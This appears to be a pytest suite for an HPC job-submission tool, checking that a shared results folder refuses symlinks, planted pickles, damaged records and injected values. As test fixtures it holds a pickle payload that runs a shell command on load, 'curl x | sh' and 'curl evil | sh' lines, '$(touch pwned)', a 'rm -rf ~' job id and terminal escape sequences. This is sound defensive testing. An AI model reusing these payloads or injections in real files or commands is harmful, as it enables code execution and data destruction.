"""A shared results folder is safe: what a co-worker, a crash or an upgrade leaves in it is data.

Each test plants what a careless or hostile member of the same Unix group could (links, damaged or
mistyped records, hostile values) and checks the one-line answer and that nothing was run, damaged,
leaked or resubmitted.
"""

from __future__ import annotations

import base64
import contextlib
import json
import os
import pickle
import shlex
import shutil
import stat
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest

from conftest import ROOT
from xrayhpc.bench.report_build import synthetic_result
from xrayhpc.cluster.state import collect
from xrayhpc.cluster.submit import decide
from xrayhpc.errors import UserError
from xrayhpc.experiment import Experiment, load_grid
from xrayhpc.safefiles import UnsafeFile, private_folder, read_bytes, user_name, write_atomic
from xrayhpc.schema import JobRecord, Progress, write_json, write_record

# A second, unprivileged user (.ci/run adds it; else Debian's nobody): what another member of the
# group could have written, and what an ordinary user may not.
PEER = "xrayhpc-peer" if subprocess.run(["id", "xrayhpc-peer"], capture_output=True).returncode == 0 else "nobody"
AS_ROOT = pytest.mark.skipif(os.geteuid() != 0, reason="acting as another user needs root")
GRID = "[[experiment]]\ntask = 'binary'\nbackbone = 'vgg16'\ndevice = 'cpu'\nweights = 'none'\n"


def command(
    module: str, *args: str, cwd: Path = ROOT, env: dict[str, str] | None = None
) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", module, *args],
        capture_output=True,
        text=True,
        cwd=cwd,
        env={**os.environ, "XRAYHPC_PROJECT": "ms542", **(env or {})},
        timeout=300,
    )


def one_line(out: subprocess.CompletedProcess[str]) -> str:
    """The refusal: one `error:` line on stderr, no traceback."""
    assert "Traceback" not in out.stderr, out.stderr
    lines = out.stderr.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("error: "), out.stderr
    return lines[0]


def grid(tmp_path: Path, text: str = GRID) -> Path:
    path = tmp_path / "grid.toml"
    path.write_text(text)
    return path


def dry_run(results: Path, grid_file: Path, *extra: str, **kw: object) -> subprocess.CompletedProcess[str]:
    """A dry run of the grid on data at /data (a later --data in `extra` wins)."""
    args = ["--grid", str(grid_file), "--executor", "dry-run", "--results", str(results), "--data", "/data"]
    return command("xrayhpc.submit", *args, *extra, **kw)


# --- links are never followed -------------------------------------------------------------------


def test_a_linked_lock_file_is_refused_and_its_target_untouched(tmp_path: Path) -> None:
    thesis = tmp_path / "thesis.tex"
    thesis.write_text("years of work\n")
    results = tmp_path / "results"
    results.mkdir()
    (results / ".submit.lock").symlink_to(thesis)
    out = dry_run(results, grid(tmp_path))
    assert out.returncode == 2 and "is a symbolic link" in one_line(out)
    assert thesis.read_text() == "years of work\n"


def test_a_linked_dry_run_script_is_replaced_not_written_through(tmp_path: Path) -> None:
    bashrc = tmp_path / "bashrc"
    bashrc.write_text("alias ll='ls -l'\n")
    results = tmp_path / "results"
    (results / "dry-run").mkdir(parents=True)
    (results / "dry-run" / "cpu.sh").symlink_to(bashrc)
    out = dry_run(results, grid(tmp_path))
    assert out.returncode == 0, out.stderr
    assert bashrc.read_text() == "alias ll='ls -l'\n"
    assert not (results / "dry-run" / "cpu.sh").is_symlink()


def test_writes_and_reads_refuse_a_linked_folder_or_file(tmp_path: Path) -> None:
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    (tmp_path / "results").mkdir()
    (tmp_path / "results" / "task1-vgg16-cpu").symlink_to(elsewhere)
    with pytest.raises(UnsafeFile, match="is a symbolic link; left alone"):
        write_atomic(tmp_path / "results" / "task1-vgg16-cpu" / "progress.json", lambda f: f.write(b"{}"))
    assert list(elsewhere.iterdir()) == []
    secret = tmp_path / "id_rsa"
    secret.write_text("PRIVATE KEY")
    (elsewhere / "confusion.png").symlink_to(secret)
    with pytest.raises(UnsafeFile, match="is a symbolic link"):
        read_bytes(elsewhere / "confusion.png")
    os.mkfifo(elsewhere / "metrics.json")  # a reader that opened it would wait forever
    with pytest.raises(UnsafeFile, match="not a regular file"):
        read_bytes(elsewhere / "metrics.json")


def test_the_worker_refuses_a_linked_result_folder_or_log(tmp_path: Path, synthetic: Path) -> None:
    results, elsewhere = tmp_path / "results", tmp_path / "elsewhere"
    elsewhere.mkdir()
    results.mkdir()
    (results / "task1-vgg16-cpu").symlink_to(elsewhere)
    args = ["--grid", str(grid(tmp_path)), "--data", str(synthetic), "--results", str(results)]
    out = command("xrayhpc.worker", *args)
    assert out.returncode == 2 and "is a symbolic link, not a result folder" in one_line(out)
    assert list(elsewhere.iterdir()) == []
    (results / "task1-vgg16-cpu").unlink()
    (results / "task1-vgg16-cpu").mkdir()
    victim = tmp_path / "notes.txt"
    victim.write_text("mine\n")
    (results / "task1-vgg16-cpu" / "worker.log").symlink_to(victim)
    out = command("xrayhpc.worker", *args)
    assert out.returncode != 0 and "worker.log: is a symbolic link" in one_line(out)
    assert victim.read_text() == "mine\n"


def test_the_report_embeds_no_linked_image(tmp_path: Path) -> None:
    results = tmp_path / "results"
    exp = Experiment("binary", "vgg16", "cpu", data="/data")
    synthetic_result(results, exp, 10.0, 15, 18)
    secret = tmp_path / "id_rsa"
    secret.write_bytes(b"-----BEGIN PRIVATE KEY----- 0123456789")
    os.chmod(secret, 0o600)
    (results / exp.id / "confusion.png").symlink_to(secret)
    (results / exp.id / "curves.png").mkdir()  # a folder where an image should be
    out = command("xrayhpc.report", "--results", str(results))
    assert out.returncode == 0 and "Traceback" not in out.stderr, out.stderr
    html = (results / "report.html").read_text()
    assert base64.b64encode(secret.read_bytes()).decode()[:20] not in html
    said = " ".join(out.stdout.split())
    assert "confusion.png: is not a regular file (a link?); left out of the report" in said
    assert "curves.png: is not a regular file" in said


# --- job state is private --------------------------------------------------------------------


def test_job_state_is_private_whatever_the_umask(tmp_path: Path) -> None:
    old = os.umask(0o002)
    try:
        folder = private_folder(tmp_path / ".jobs")
    finally:
        os.umask(old)
    assert folder == tmp_path / ".jobs" / user_name()
    assert stat.S_IMODE(folder.stat().st_mode) == 0o700
    os.chmod(folder, 0o775)  # made by an older xrayhpc: tightened on the next use
    assert stat.S_IMODE(private_folder(tmp_path / ".jobs").stat().st_mode) == 0o700


def peer_ids() -> tuple[int, int]:
    import pwd

    entry = pwd.getpwnam(PEER)
    return entry.pw_uid, entry.pw_gid


@AS_ROOT
def test_a_private_folder_planted_by_another_user_is_refused(tmp_path: Path) -> None:
    planted = tmp_path / ".jobs" / user_name()
    planted.mkdir(parents=True)
    os.chown(planted, *peer_ids())
    with pytest.raises(UserError, match="belongs to .*, not to you"):
        private_folder(tmp_path / ".jobs")


def planted_pickle(folder: Path, job_id: str, marker: Path) -> Path:
    """What a co-worker would plant: a pickle that runs a command when loaded."""

    class Payload:
        def __reduce__(self) -> tuple[object, tuple[str]]:
            return (os.system, (f"touch {shlex.quote(str(marker))}",))

    (folder / job_id).mkdir(parents=True, exist_ok=True)
    path = folder / job_id / f"{job_id}_submitted.pkl"
    path.write_bytes(pickle.dumps(Payload()))
    return path


def start_job(folder: Path, job_id: str) -> subprocess.CompletedProcess[str]:
    env = {**os.environ, "SUBMITIT_EXECUTOR": "local", "SUBMITIT_LOCAL_JOB_ID": job_id, "SUBMITIT_LOCAL_NODEID": "0",
           "SUBMITIT_LOCAL_GLOBALID": "0", "SUBMITIT_LOCAL_LOCALID": "0", "SUBMITIT_LOCAL_NTASKS": "1",
           "SUBMITIT_LOCAL_JOB_NUM_NODES": "1"}  # fmt: skip
    return subprocess.run(
        [sys.executable, "-m", "xrayhpc.cluster.jobstart", str(folder / "%j")],
        capture_output=True,
        text=True,
        env=env,
        timeout=120,
    )


def test_a_job_refuses_a_job_folder_others_can_write(tmp_path: Path) -> None:
    folder = tmp_path / ".jobs" / user_name()
    marker = tmp_path / "ran"
    planted_pickle(folder, "4242", marker)
    os.chmod(folder, 0o775)  # group-writable: any member could have put the pickle there
    out = start_job(folder, "4242")
    assert out.returncode == 2 and "lets others write it; it must be yours alone" in out.stderr, out.stderr
    assert not marker.exists()


@AS_ROOT
def test_a_job_refuses_a_pickle_another_user_wrote(tmp_path: Path) -> None:
    folder = private_folder(tmp_path / ".jobs")
    marker = tmp_path / "ran"
    path = planted_pickle(folder, "4243", marker)
    os.chown(path, *peer_ids())
    out = start_job(folder, "4243")
    assert out.returncode == 2 and "belongs to" in out.stderr and "it is not loaded" in out.stderr, out.stderr
    assert not marker.exists()


@pytest.mark.slow
def test_a_local_run_starts_through_the_checked_entry_point(tmp_path: Path, synthetic: Path) -> None:
    results = tmp_path / "results"
    g = grid(tmp_path, GRID + "image_size = 32\nepochs = 1\naugment = false\n")
    args = ["--grid", str(g), "--executor", "local", "--results", str(results), "--data", str(synthetic)]
    out = command("xrayhpc.submit", *args)
    assert out.returncode == 0, out.stdout + out.stderr
    private = results / ".jobs" / user_name()
    assert stat.S_IMODE(private.stat().st_mode) == 0o700
    [pickled] = private.glob("*/*_submitted.pkl")
    assert stat.S_IMODE(pickled.stat().st_mode) == 0o600
    assert (results / "task1-vgg16-cpu" / "metrics.json").is_file()


# --- nothing reaches a job script unchecked ----------------------------------------------------


@pytest.mark.parametrize(
    ("key", "value"),
    [
        ("project", '"p\\n#$ -l h_rt=999:00:00"'),
        ("project", '"p -l h_rt=999:00:00"'),
        ("queue", '"all.q\\ncurl x | sh"'),
        ("mail", '"me@bu.edu -M them@x.org"'),
        ("mail_events", '"ea\\n"'),
        ("setup", '["module load x\\ncurl x | sh"]'),
        ("extra_directives", '["-l h_rt=1\\n-P other"]'),
        ("time", '"00:00:00"'),
        ("array_parallelism", "-3"),
    ],
)
def test_hostile_profile_values_are_refused_at_the_door(tmp_path: Path, key: str, value: str) -> None:
    profile = tmp_path / "site.toml"
    profile.write_text(f"{key} = {value}\n[cpu]\ncores = 1\n")
    out = dry_run(tmp_path / "results", grid(tmp_path), "--profile", str(profile))
    line = one_line(out)
    assert out.returncode == 2 and str(profile) in line and f"`{key}`" in line
    assert not (tmp_path / "results" / "dry-run").exists()


@pytest.mark.parametrize(
    ("table", "text"),
    [("cpu", "cores = 0"), ("gpu", "gpus = -1"), ("gpu", "gpu_c = nan"), ("gpu", 'gpu_type = "A100 -l x=1"'),
     ("cpu", 'mem_per_core = "4G\\n"')],
)  # fmt: skip
def test_hostile_device_values_are_refused_at_the_door(tmp_path: Path, table: str, text: str) -> None:
    profile = tmp_path / "site.toml"
    profile.write_text(f"[{table}]\n{text}\n")
    out = dry_run(tmp_path / "results", grid(tmp_path), "--profile", str(profile))
    assert out.returncode == 2 and f"[{table}]" in one_line(out)


def test_a_hostile_project_from_the_environment_is_refused(tmp_path: Path) -> None:
    out = dry_run(tmp_path / "r", grid(tmp_path), env={"XRAYHPC_PROJECT": "p -l h_rt=999:00:00"})
    assert out.returncode == 2 and "XRAYHPC_PROJECT: `project` = " in one_line(out)


def test_scripts_rendered_from_odd_but_allowed_values_hold_one_option_per_line(tmp_path: Path) -> None:
    """Every `#$` line of the script is one option and its value, and no line came from a value."""
    profile = tmp_path / "site.toml"
    profile.write_text(
        'project = "ms542"\nqueue = "gpu.q@scc-x01"\nmail = "a.b+c@bu.edu"\nmail_events = "bea"\n'
        '[gpu]\ngpus = 1\ngpu_c = 7.0\ngpu_type = "A6000|A40|L40S"\ngpu_memory = "16G"\nmem_per_core = "4G"\n'
    )
    text = GRID.replace("'cpu'", "'gpu'")
    out = dry_run(tmp_path / "r", grid(tmp_path, text), "--profile", str(profile))
    assert out.returncode == 0, out.stderr
    script = (tmp_path / "r" / "dry-run" / "gpu.sh").read_text()
    directives = [line[3:] for line in script.splitlines() if line.startswith("#$ ")]
    for line in directives:
        option, *value = shlex.split(line)
        assert option.startswith("-") and len(value) <= 1, line
    assert "-q gpu.q@scc-x01" in directives and "-l gpu_type=A6000|A40|L40S" in directives


@pytest.mark.parametrize("name", ["$(touch pwned)", "`touch pwned`", "$HOME", 'a"b', "back\\slash"])
def test_a_results_path_a_shell_would_expand_is_refused(tmp_path: Path, name: str) -> None:
    out = dry_run(tmp_path / name, grid(tmp_path), cwd=tmp_path)
    assert out.returncode == 2 and "a job script cannot hold this path" in one_line(out)
    assert not (tmp_path / "pwned").exists()


def test_a_working_directory_override_is_announced(tmp_path: Path) -> None:
    (tmp_path / "qsub").mkdir()
    template = (ROOT / "qsub" / "job.sh.template").read_text()
    (tmp_path / "qsub" / "job.sh.template").write_text(template.replace("$setup", "$setup\ncurl evil | sh"))
    out = dry_run(tmp_path / "r", grid(tmp_path), cwd=tmp_path)
    assert out.returncode == 0, out.stderr
    said = " ".join(out.stdout.split())
    assert f"note: using {tmp_path / 'qsub' / 'job.sh.template'} from the working directory" in said


# --- every reader survives any file -----------------------------------------------------------


def finished(results: Path, **settings: object) -> Experiment:
    exp = Experiment("binary", "vgg16", "cpu", **{"data": "/data", "weights": "none", **settings})
    synthetic_result(results, exp, 10.0, 15, 18)
    return exp


def damage_metrics(path: Path, change: dict) -> None:
    data = json.loads(path.read_text())
    for dotted, value in change.items():
        *parents, last = dotted.split(".")
        target = data
        for p in parents:
            target = target[p]
        target[last] = value
    path.write_text(json.dumps(data))


@pytest.mark.parametrize(
    ("change", "expected"),
    [
        ({"test.accuracy": "high"}, "test.accuracy is str"),
        ({"timing.total": "10s"}, "timing.total is str"),
        ({"environment.host": 7}, "environment.host is int"),
        ({"experiment.seed": -1}, "`seed` = -1 is not allowed"),
        ({"finished": 1e300}, "finished = 1e+300 is out of range"),
    ],
)
def test_a_mistyped_metrics_file_is_unreadable_named_and_held(tmp_path: Path, change: dict, expected: str) -> None:
    exp = finished(tmp_path)
    damage_metrics(tmp_path / exp.id / "metrics.json", change)
    [row] = collect(tmp_path, {exp.id: exp.fingerprints})[0]
    assert row.state == "unreadable" and expected in row.reason and "metrics.json" in row.reason
    action, detail = decide(row, force=False, max_attempts=3, retry=False)
    assert action == "held" and "then pass --retry" in detail
    assert decide(row, force=False, max_attempts=3, retry=True)[0] == "submit"
    out = command("xrayhpc.status", "--results", str(tmp_path))
    assert out.returncode == 1 and "Traceback" not in out.stderr and "unreadable" in out.stdout
    assert command("xrayhpc.report", "--results", str(tmp_path)).returncode == 0


@pytest.mark.parametrize(
    "progress",
    [
        {"pid": 10**30},
        {"pid": -1},
        {"started": float("inf")},
        "deep",
    ],
)
def test_a_damaged_progress_file_never_blocks_the_grid(tmp_path: Path, progress: object) -> None:
    exp = Experiment("binary", "vgg16", "cpu", data="/data", weights="none")
    record = Progress("running", 1, 40, 1.0e9, "elsewhere", 4242, fingerprint=exp.fingerprint)
    (tmp_path / exp.id).mkdir()
    path = tmp_path / exp.id / "progress.json"
    if progress == "deep":
        path.write_text("[" * 100_000 + "]" * 100_000)
    else:
        text = json.dumps({**record.__dict__, **progress})  # type: ignore[dict-item]
        path.write_text(text)
    g = grid(tmp_path, GRID)
    out = dry_run(tmp_path, g)
    assert out.returncode == 1 and "Traceback" not in out.stderr, out.stderr
    assert "held" in out.stdout and "progress.json" in out.stdout
    status = command("xrayhpc.status", "--results", str(tmp_path))
    assert "unreadable" in status.stdout and "Traceback" not in status.stderr


def test_a_job_record_and_an_audit_of_the_wrong_shape_are_named(tmp_path: Path) -> None:
    exp = Experiment("binary", "vgg16", "cpu", data="/data", weights="none")
    write_record(tmp_path / exp.id, JobRecord("sge", "17", exp.fingerprint, "s", "l", 1.0e9))
    damage = json.loads((tmp_path / exp.id / "job.json").read_text())
    (tmp_path / exp.id / "job.json").write_text(json.dumps({**damage, "submitted": 1e300}))
    [row] = collect(tmp_path)[0]
    assert row.state == "unreadable" and "job.json: submitted = 1e+300 is out of range" in row.reason
    meta = Experiment("binary", "metadata", "cpu", data="/data")
    synthetic_result(tmp_path, meta, 1.0, 15, 18)
    write_json(tmp_path / meta.id / "audit.json", {"folder": "two"})
    out = command("xrayhpc.report", "--results", str(tmp_path))
    assert out.returncode == 0 and "Traceback" not in out.stderr, out.stderr
    assert "audit.json: incomplete or mistyped (no 'duplicates')" in " ".join(out.stdout.split())


def test_a_result_from_a_newer_xrayhpc_is_done_and_never_planned_again(tmp_path: Path) -> None:
    exp = finished(tmp_path)
    damage_metrics(tmp_path / exp.id / "metrics.json", {"schema_version": 2, "test": {"shape": "new"}})
    out = dry_run(tmp_path, grid(tmp_path))
    assert out.returncode == 0, out.stderr
    assert "written by a newer xrayhpc: upgrade to read it" in out.stdout
    assert not (tmp_path / "dry-run").exists()  # nothing to send
    status = command("xrayhpc.status", "--results", str(tmp_path))
    assert "done" in status.stdout and "newer xrayhpc" in status.stdout


def test_the_dry_run_keeps_each_plans_reason(tmp_path: Path) -> None:
    exp = Experiment("binary", "vgg16", "cpu", data="/data", weights="none")
    (tmp_path / exp.id).mkdir()
    Progress("failed", 1, 40, 1.0e9, "elsewhere", 4242, fingerprint=exp.fingerprint, error="boom").write(
        tmp_path / exp.id
    )
    write_record(tmp_path / exp.id, JobRecord("local", "4242", exp.fingerprint, "s", "l", 1.0e9))
    out = dry_run(tmp_path, grid(tmp_path))
    assert "would be task 1 of" in out.stdout and "attempt 2 of 3, after: boom" in out.stdout
    assert "0 submitted, 0 already done, 0 queued or running; the dry run would send 1" in out.stdout


# --- door checks ---------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("learning_rate = nan", "`learning_rate` = nan is not a finite number"),
        ("learning_rate = inf", "`learning_rate` = inf is not a finite number"),
        ("save_every_s = nan", "`save_every_s` = nan is not a finite number"),
        ("seed = -1", "`seed` = -1 is not allowed; it must be from 0 to 4294967295"),
        ("seed = 9223372036854775807", "`seed` = 9223372036854775807 is not allowed"),
        ("batch_size = 9223372036854775807", "it must be from 1 to 65536"),
        ("head_units = [9223372036854775807]", "`head_units`"),
        (f"tag = '{'x' * 240}'", "use at most 64 of letters"),
    ],
)
def test_grid_values_out_of_bounds_are_refused_with_the_bound(tmp_path: Path, text: str, expected: str) -> None:
    with pytest.raises(UserError, match="grid.toml: experiment 1") as err:
        load_grid(grid(tmp_path, GRID + text + "\n"))
    assert expected in str(err.value)


@pytest.mark.parametrize(
    ("raw", "expected"),
    [
        (b"\xff\xfe[[experiment]]\n", "not UTF-8 text"),
        (b"data = 5\n" + GRID.encode(), "`data` must be a path in quotes"),
        (b"defaults = 5\n" + GRID.encode(), "`defaults` must be a table"),
        (b"experiment = 5\n", "no [[experiment]] tables"),
    ],
)
def test_a_malformed_grid_is_one_line(tmp_path: Path, raw: bytes, expected: str) -> None:
    path = tmp_path / "grid.toml"
    path.write_bytes(raw)
    out = dry_run(tmp_path / "r", path)
    assert out.returncode == 2 and expected in one_line(out)


@contextlib.contextmanager
def mount(folder: Path, *steps: list[str]) -> Iterator[Path]:
    """`folder` as a file system of its own, each step a `mount` call ending in the folder (root
    only; skipped where mounting is not allowed)."""
    folder.mkdir(parents=True, exist_ok=True)
    mounted = 0
    try:
        for step in steps:
            done = subprocess.run(["mount", *step, str(folder)], capture_output=True, text=True)
            if done.returncode != 0:
                pytest.skip(f"cannot mount here: {done.stderr.strip()}")
            mounted += 1
        yield folder
    finally:
        for _ in range(mounted):
            subprocess.run(["umount", "-l", str(folder)], capture_output=True)


@AS_ROOT
def test_a_read_only_results_folder_is_one_line(tmp_path: Path) -> None:
    results = tmp_path / "results"
    finished(results)
    with mount(results, ["--bind", str(results)], ["-o", "remount,ro,bind"]):
        out = command("xrayhpc.report", "--results", str(results))
        line = one_line(out)
    assert out.returncode == 1 and "Read-only file system" in line and str(results) in line


@AS_ROOT
def test_a_full_disk_is_one_line_and_leaves_no_half_file(tmp_path: Path, synthetic: Path) -> None:
    results = tmp_path / "results"
    with mount(results, ["-t", "tmpfs", "-o", "size=64k", "tmpfs"]):
        (results / "filler").write_bytes(b"x" * 60 * 1024)
        out = dry_run(results, grid(tmp_path), *["--data", str(synthetic)])
        line = one_line(out)
        assert out.returncode == 1 and "No space left on device" in line and "free some space" in line
        assert not [p for p in results.rglob("*.tmp")]


# --- --spec and fingerprints ---------------------------------------------------------------------


def test_a_metrics_experiment_runs_again_into_its_own_folder() -> None:
    exp = load_grid_text("seed = [1, 3]")[1]
    settings = {**exp.settings(), "id": exp.id, "fingerprint": exp.fingerprint}
    again = Experiment.from_settings(settings)
    assert again.id == "task1-vgg16-cpu-seed3" == exp.id and again.fingerprint == exp.fingerprint
    with pytest.raises(UserError, match="does not match its settings"):
        Experiment.from_settings({**settings, "id": "task2-other-cpu"})


def load_grid_text(extra: str) -> list[Experiment]:
    import tempfile

    with tempfile.TemporaryDirectory() as folder:
        return load_grid(grid(Path(folder), GRID + extra + "\n"))


def test_the_same_data_by_another_path_plans_nothing(tmp_path: Path, synthetic: Path) -> None:
    results = tmp_path / "results"
    exp = finished(results, data=str(synthetic))
    link, copy = tmp_path / "linked", tmp_path / "copied"
    link.symlink_to(synthetic)
    shutil.copytree(synthetic, copy)
    for data in (link, copy):
        out = dry_run(results, grid(tmp_path), "--data", str(data))
        assert out.returncode == 0 and "complete result with this fingerprint" in out.stdout, out.stdout
        assert not (results / "dry-run").exists()
    image = next((copy / "two" / "train").rglob("*.png"))
    shutil.copy(image, image.with_name(f"another-{image.name}"))  # the data itself changed: a new fingerprint
    assert Experiment("binary", "vgg16", "cpu", data=str(copy), weights="none").fingerprint != exp.fingerprint


def test_a_setting_added_later_leaves_finished_runs_finished(monkeypatch: pytest.MonkeyPatch) -> None:
    from xrayhpc import experiment

    exp = Experiment("binary", "vgg16", "cpu", data="/data", weights="none")
    # a run finished by a release without `xla`: its fingerprint had no such setting
    first = experiment.FIRST_SETTINGS - {"xla", "save_every_s"}
    older = experiment._digest({k: v for k, v in exp.settings().items() if k in first})
    # as if `xla` had come in this release: at its default it leaves that fingerprint as it was
    monkeypatch.setattr(experiment, "FIRST_SETTINGS", experiment.FIRST_SETTINGS - {"xla"})
    assert exp.fingerprint == older
    assert Experiment("binary", "vgg16", "cpu", data="/data", weights="none", xla="off").fingerprint != older


def test_a_new_setting_keeps_the_first_releases_runs_done_only_at_its_default() -> None:
    plain = Experiment("binary", "vgg16", "cpu", data="/data", weights="none")
    deterministic = Experiment("binary", "vgg16", "cpu", data="/data", weights="none", deterministic=True)
    assert len(plain.fingerprints) == 2 and deterministic.fingerprints == (deterministic.fingerprint,)
    assert deterministic.fingerprint not in plain.fingerprints


def test_a_run_with_the_first_releases_fingerprint_is_still_done(tmp_path: Path) -> None:
    exp = finished(tmp_path)
    legacy = exp.fingerprints[1]
    damage_metrics(tmp_path / exp.id / "metrics.json", {"experiment.fingerprint": legacy})
    [row] = collect(tmp_path, {exp.id: exp.fingerprints})[0]
    assert row.state == "done"


# --- found in review: links and odd files beside the data, the job folder and the records ---------


def test_the_data_digest_follows_what_the_loader_reads(tmp_path: Path, synthetic: Path) -> None:
    """Class folders that are links to other images are other data; a file the loader ignores is not."""
    from xrayhpc.datadigest import data_digest

    def linked(name: str, source: Path) -> Path:
        root = tmp_path / name / "two"
        for split in ("train", "test"):
            for cls in (source / split).iterdir():
                (root / split).mkdir(parents=True, exist_ok=True)
                (root / split / cls.name).symlink_to(cls)
        return root

    other = tmp_path / "other"
    shutil.copytree(synthetic / "two", other / "two")
    image = next((other / "two" / "train").rglob("*.png"))
    shutil.copy(image, image.with_name(f"more-{image.name}"))
    a, b = linked("a", synthetic / "two"), linked("b", other / "two")
    assert data_digest(str(a)) == data_digest(str(synthetic / "two")) != data_digest(str(b))
    (synthetic / "two" / "README.txt").write_text("notes\n")
    os.mkfifo(synthetic / "two" / "train" / "pipe.png")  # would hang a reader that opened it blocking
    try:
        data_digest.cache_clear()
        assert data_digest(str(a)) == data_digest(str(synthetic / "two"))
    finally:
        (synthetic / "two" / "README.txt").unlink()
        (synthetic / "two" / "train" / "pipe.png").unlink()
        data_digest.cache_clear()


def test_a_jobs_folder_that_is_a_link_is_refused(tmp_path: Path) -> None:
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    (tmp_path / "results").mkdir()
    (tmp_path / "results" / ".jobs").symlink_to(elsewhere)
    with pytest.raises(UnsafeFile, match=r"\.jobs: is a symbolic link"):
        private_folder(tmp_path / "results" / ".jobs")
    assert list(elsewhere.iterdir()) == []


def test_the_job_script_stops_when_its_private_folder_was_swapped(tmp_path: Path) -> None:
    """What Grid Engine would run, run here: a link in the private folder's place ends it before any write."""
    from xrayhpc.cluster.sge import render_job_script

    private = tmp_path / ".jobs" / user_name()
    script = tmp_path / "job.sh"
    script.write_text(render_job_script("echo worker ran", private / "%j"))
    elsewhere = tmp_path / "elsewhere"
    (elsewhere / "4242").mkdir(parents=True)
    victim = tmp_path / "victim.txt"
    victim.write_text("mine\n")
    (elsewhere / "4242" / "4242_0_log.out").symlink_to(victim)
    private.parent.mkdir()
    private.symlink_to(elsewhere)
    out = subprocess.run(["bash", str(script)], capture_output=True, text=True, env={**os.environ, "JOB_ID": "4242"})
    assert out.returncode == 2 and "is not your own folder" in out.stderr
    assert victim.read_text() == "mine\n"


def test_odd_files_in_a_result_folder_never_hang_or_stop_a_command(tmp_path: Path) -> None:
    from xrayhpc.study.checkpoint import Checkpoint

    folder = tmp_path / "task1-vgg16-cpu"
    folder.mkdir()
    os.mkfifo(folder / "worker.log")
    with pytest.raises(OSError, match="worker.log"):
        from xrayhpc.safefiles import open_append

        open_append(folder / "worker.log")
    os.mkfifo(folder / "checkpoint.npz")
    said: list[str] = []
    assert Checkpoint(folder, "abc", 60, said.append).load() is None
    assert "is unreadable" in said[0] and "starting from epoch 0" in said[0]
    np_meta = folder / "checkpoint.npz"
    np_meta.unlink()
    import numpy as np

    with open(np_meta, "wb") as f:
        np.savez(f, meta=np.array(json.dumps(["not", "a", "dict"])))
    assert Checkpoint(folder, "abc", 60, said.append).load() is None and "is unreadable" in said[-1]


def test_a_job_record_with_an_odd_job_id_is_unreadable(tmp_path: Path) -> None:
    exp = Experiment("binary", "vgg16", "cpu", data="/data", weights="none")
    write_record(tmp_path / exp.id, JobRecord("sge", "17", exp.fingerprint, "s", "l", 1.0e9))
    data = json.loads((tmp_path / exp.id / "job.json").read_text())
    (tmp_path / exp.id / "job.json").write_text(json.dumps({**data, "job_id": "1_x; rm -rf ~"}))
    [row] = collect(tmp_path)[0]
    assert row.state == "unreadable" and "job_id = '1_x; rm -rf ~' is not a job id" in row.reason


def test_names_and_errors_from_files_print_as_one_plain_line(tmp_path: Path) -> None:
    exp = Experiment("binary", "vgg16", "cpu", data="/data", weights="none")
    (tmp_path / exp.id).mkdir()
    error = "boom\nFAKE LINE\x1b]0;owned\x07"
    Progress("failed", 1, 40, 1.0e9, "elsewhere", 4242, fingerprint=exp.fingerprint, error=error).write(
        tmp_path / exp.id
    )
    out = command("xrayhpc.status", "--results", str(tmp_path))
    assert "\x1b" not in out.stdout and "boom FAKE LINE" in out.stdout
    assert not any(line.startswith("FAKE LINE") for line in out.stdout.splitlines())


def test_an_image_that_grew_past_any_of_ours_is_left_out_not_the_report(tmp_path: Path) -> None:
    results = tmp_path / "results"
    exp = finished(results)
    with open(results / exp.id / "curves.png", "wb") as f:
        f.truncate(65 * 1024**2)  # sparse: costs no disk
    out = command("xrayhpc.report", "--results", str(results))
    assert out.returncode == 0, out.stderr
    assert "curves.png: 68157440 bytes, more than any file of ours" in (results / "report.html").read_text()


def test_symlinked_homes_for_weights_and_cache_are_yours_to_set(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from xrayhpc.backbones import keras_models_dir
    from xrayhpc.datadigest import cache_dir

    real = tmp_path / "projectnb"
    (real / "keras").mkdir(parents=True)
    (tmp_path / "keras").symlink_to(real / "keras")
    (tmp_path / "cache").symlink_to(real)
    monkeypatch.setenv("KERAS_HOME", str(tmp_path / "keras"))
    monkeypatch.setenv("XRAYHPC_CACHE", str(tmp_path / "cache"))
    assert keras_models_dir() == real / "keras" / "models" and cache_dir() == real
    write_atomic(keras_models_dir() / "w.h5", lambda f: f.write(b"x"))
    assert (real / "keras" / "models" / "w.h5").read_bytes() == b"x"


def test_the_doctor_asks_slurm_for_its_short_job_in_slurms_own_terms(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from submitit.slurm.slurm import SlurmExecutor

    from xrayhpc.cluster.profile import load_profile
    from xrayhpc.cluster.submit import cluster_executor

    monkeypatch.setattr(SlurmExecutor, "affinity", classmethod(lambda cls: 2))
    executor = cluster_executor("slurm", "cpu", load_profile("scc", "ms542"), tmp_path / "%j", "doctor")
    executor.update_parameters(time=10)
    assert "#SBATCH --time=10" in executor._make_submission_file_text("true", "uid")


def test_a_time_in_other_digits_is_refused_in_one_line(tmp_path: Path) -> None:
    profile = tmp_path / "site.toml"
    profile.write_text('time = "\u00b2:00:00"\n')
    out = dry_run(tmp_path / "r", grid(tmp_path), "--profile", str(profile))
    assert out.returncode == 2 and "`time`" in one_line(out)


def test_status_of_a_grid_finds_its_data_as_submit_does(tmp_path: Path, synthetic: Path) -> None:
    """From another folder, `status --grid` with the `--data` given to submit shows the finished run done."""
    results = tmp_path / "results"
    finished(results, data=str(synthetic))
    args = ["--grid", str(grid(tmp_path)), "--results", str(results), "--json"]
    rows = json.loads(command("xrayhpc.status", *args, "--data", str(synthetic), cwd=tmp_path).stdout)["rows"]
    assert [r["state"] for r in rows] == ["done"]
    rows = json.loads(command("xrayhpc.status", *args, cwd=tmp_path).stdout)["rows"]  # ./data: not this data
    assert [r["state"] for r in rows] == ["not submitted"]
